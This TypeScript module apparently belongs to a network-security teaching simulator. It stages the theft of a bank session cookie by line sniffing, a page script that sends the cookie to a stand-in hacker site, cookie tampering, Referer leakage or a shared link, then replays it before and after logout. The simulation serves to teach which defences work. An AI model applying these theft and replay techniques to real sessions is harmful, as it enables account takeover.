/**
 * One session stolen: in the clear or under TLS, by one of five ways, and tried from an address of the hacker's own, before and
 * after Alice logs out.
 */
import { fromUtf8, utf8 } from '../../bytes/index.ts';
import { bareAnswer } from '../../net/http/bare-answer.ts';
import { parseCookie } from '../../net/http/cookie.ts';
import { type HttpRequest, type HttpResponse, header } from '../../net/http/message.ts';
import { HttpReader } from '../../net/http/reader.ts';
import { targetOf } from '../../net/http/target.ts';
import { parsePacket } from '../../net/wire/packet.ts';
import type { RandomSource } from '../../random/index.ts';
import type { MessageKey } from '../../trace/index.ts';
import type { PartyKeys } from '../tls/parties.ts';
import { BANK, PASSWORD, USER } from './bank.ts';
import { BankTls } from './bank-tls.ts';
import { Browser, FORM, type Page } from './browser.ts';
import { type HopScene, Hops } from './hops.ts';
import { ALICE, BOB, openLine } from './line.ts';
import { HACKER, openHackersHost, openHackersSite } from './middle.ts';
import { type Carrier, createSessionBank, SESSION } from './session-bank.ts';

/** How he gets it: from the line, by a script in the page, by altering his own, from Referer, from a shared link. */
export type Theft = 'line' | 'script' | 'alter' | 'referer' | 'link';

export interface SessionPlan {
  readonly random: RandomSource;
  /** Needed for `https` alone. */
  readonly keys?: PartyKeys | undefined;
  readonly theft: Theft;
  readonly carrier: Carrier;
  /** Log-in under TLS; Alice opens a page of the bank in the clear afterwards. */
  readonly https?: boolean;
  readonly secure?: boolean;
  readonly httpOnly?: boolean;
  /** Whether the browser names the whole page in Referer, as old ones did, or its origin alone. */
  readonly wholeReferer?: boolean;
}

export interface SessionFacts {
  readonly theft: Theft;
  readonly carrier: Carrier;
  readonly https: boolean;
  readonly secure: boolean;
  readonly httpOnly: boolean;
  readonly wholeReferer: boolean;
  /** What he got hold of; null: nothing. */
  readonly got: string | null;
  readonly from: string;
  /** Whether the bank took him for Alice, and whether it still did after she logged out. */
  readonly entered: boolean;
  readonly enteredAfterLogout: boolean;
}

const MALLORY = 'mallory';
const SECOND = 1_000_000;

export function runSession(plan: SessionPlan): HopScene & { readonly facts: SessionFacts } {
  const { random, keys, theft, carrier } = plan;
  const { https = false, secure = false, httpOnly = false, wholeReferer = false } = plan;
  const line = openLine({ random });
  const hops = new Hops(line);
  const tls = https && keys ? new BankTls(keys, random.substream('tls')) : undefined;
  const users = new Map([
    [USER, PASSWORD],
    [MALLORY, 'xyzzy'],
  ]);
  const bank = createSessionBank({ random, users, carrier, secure, httpOnly });
  const answer = (request: HttpRequest, reply: (response: HttpResponse) => void) =>
    reply(bank(request, hops.now));
  hops.serve({ host: line.bob, as: 'bank', port: 80, answer });
  if (tls) hops.serve({ host: line.bob, as: 'bank', port: 443, tls: () => tls.server(), answer });

  let got: string | null = null;
  const take = (value: string | undefined) => {
    if (value !== undefined && value !== '') got ??= value;
  };
  if (theft === 'line') listen(line, take);
  const own = openHackersHost(line, random);
  hops.serve({
    host: openHackersSite(line, random),
    as: 'hacker',
    port: 80,
    answer: (request, reply) => {
      const { query } = targetOf(request);
      take(theft === 'script' ? sessionIn(new URLSearchParams(query).get('c') ?? '') : undefined);
      if (theft === 'referer') take(idIn(header(request, 'Referer') ?? ''));
      reply(bareAnswer(204));
    },
  });
  const browser = new Browser({
    hops,
    host: line.alice,
    tls: () => {
      if (!tls) throw new Error('no TLS in this lesson');
      return tls.client();
    },
  });
  const origin = `${https ? 'https' : 'http'}://${BANK}`;
  let page: Page | undefined;
  const form = { user: USER, password: PASSWORD };
  // In the figure all that Alice sends passes him; only what reaches him is his.
  if (theft !== 'line') line.clock.at(0, () => hops.say('session.notOnLine', {}));
  line.clock.at(0, () =>
    browser.open(
      new URL(`${origin}/login`),
      (opened) => {
        page = opened;
      },
      form,
    ),
  );
  line.clock.at(SECOND, () => leak());
  let entered = false;
  line.clock.at(2 * SECOND, () => {
    if (got !== null)
      use((yes) => {
        entered = yes;
      });
  });
  line.clock.at(3 * SECOND, () => {
    hops.say('session.logout', {});
    const id = page ? idIn(page.url.href) : undefined;
    const logout = new URL(`${origin}/logout${id === undefined ? '' : `;${SESSION}=${id}`}`);
    browser.open(logout, () => {}, {});
  });
  let enteredAfterLogout = false;
  line.clock.at(4 * SECOND, () => {
    if (got !== null)
      use((yes) => {
        enteredAfterLogout = yes;
      });
  });
  line.clock.run();

  /** What happens between the log-in and the use of what was stolen. */
  function leak(): void {
    const { url } = page ?? { url: new URL(origin) };
    if (theft === 'line' && https) {
      hops.say('session.clearPage', {});
      browser.open(new URL(`http://${BANK}/news`), () => {});
    } else if (theft === 'script') {
      hops.say('session.script', {});
      const read = browser.jar.field(url, hops.now, { script: true }) ?? '';
      toHacker(`/take?c=${encodeURIComponent(read)}`);
    } else if (theft === 'referer') {
      hops.say('session.click', {});
      toHacker('/shop', wholeReferer ? url.href : `${url.origin}/`);
    } else if (theft === 'link') {
      hops.say('session.share', {});
      take(idIn(url.href));
    } else if (theft === 'alter') logInAsMallory();
  }

  /** His own session, with her name in it. */
  function logInAsMallory(): void {
    hops.say('session.alter', {});
    const body = new URLSearchParams({ user: MALLORY, password: users.get(MALLORY)! }).toString();
    asHacker({ method: 'POST', target: '/login', body }, (response) => {
      const field = header(response, 'Set-Cookie') ?? '';
      take(sessionIn(field.split(';')[0]!)?.replace(MALLORY, USER));
    });
  }

  function use(then: (entered: boolean) => void): void {
    const value = got ?? '';
    const target = carrier === 'url' ? `/account;${SESSION}=${value}` : '/account';
    asHacker({ method: 'GET', target, ...(carrier === 'url' ? {} : { cookie: value }) }, (response) =>
      then(response.status === 200 && fromUtf8(response.body) === `Account of ${USER}`),
    );
  }

  function asHacker(
    asked: { method: string; target: string; cookie?: string; body?: string },
    onAnswer: (response: HttpResponse) => void,
  ): void {
    const { method, target, cookie, body = '' } = asked;
    const headers = [
      { name: 'Host', value: BANK },
      ...(method === 'POST' ? [FORM] : []),
      ...(cookie === undefined ? [] : [{ name: 'Cookie', value: `${SESSION}=${cookie}` }]),
    ];
    const request = { method, target, version: 'HTTP/1.1', headers, body: utf8(body) } as const;
    const protection = tls ? { port: 443, tls: () => tls.client() } : { port: 80 };
    hops.ask({ host: own, address: BOB.address, ...protection, request, onAnswer });
  }

  function toHacker(target: string, referer?: string): void {
    const headers = [
      { name: 'Host', value: HACKER.address },
      ...(referer === undefined ? [] : [{ name: 'Referer', value: referer }]),
    ];
    const request = { method: 'GET', target, version: 'HTTP/1.1', headers, body: new Uint8Array(0) } as const;
    hops.ask({ host: line.alice, address: HACKER.address, port: 80, request, onAnswer: () => {} });
  }

  return {
    title: titleOf(plan),
    noted: line.noted,
    frames: line.frames,
    hops: hops.list,
    hacker: true,
    keyLog: tls?.keyLog ?? '',
    facts: {
      theft,
      carrier,
      https,
      secure,
      httpOnly,
      wholeReferer,
      got,
      from: HACKER.address,
      entered,
      enteredAfterLogout,
    },
  };
}

function titleOf({ theft, carrier, secure, httpOnly, https, wholeReferer }: SessionPlan): MessageKey {
  if (theft === 'line') {
    if (carrier === 'signed') return 'session.title.line.signed';
    return https ? `session.title.line.${secure ? 'secure' : 'insecure'}` : 'session.title.line';
  }
  if (theft === 'script') return `session.title.script.${httpOnly ? 'httpOnly' : 'open'}`;
  if (theft === 'alter') return `session.title.alter.${carrier === 'signed' ? 'signed' : 'name'}`;
  if (theft === 'referer') return `session.title.referer.${wholeReferer ? 'whole' : 'origin'}`;
  return 'session.title.link';
}

/** Reads what Alice sends in the clear. */
function listen(line: ReturnType<typeof openLine>, take: (value: string | undefined) => void): void {
  const readers = new Map<number, HttpReader>();
  line.link.addTap({
    see(frame, towards) {
      const { ipv4, tcp } = parsePacket(frame);
      const isClear = towards === 'b' && ipv4?.source === ALICE.address && tcp?.destinationPort === 80;
      if (!isClear || !tcp || tcp.payload.length === 0) return 'pass';
      const reader = readers.get(tcp.sourcePort) ?? new HttpReader('request');
      readers.set(tcp.sourcePort, reader);
      for (const message of reader.receive(tcp.payload)) take(sessionIn(header(message, 'Cookie') ?? ''));
      return 'pass';
    },
  });
}

function sessionIn(field: string): string | undefined {
  return parseCookie(field).find(({ name }) => name === SESSION)?.value;
}

function idIn(url: string): string | undefined {
  return new RegExp(`;${SESSION}=([0-9a-f]+)`).exec(url)?.[1];
}
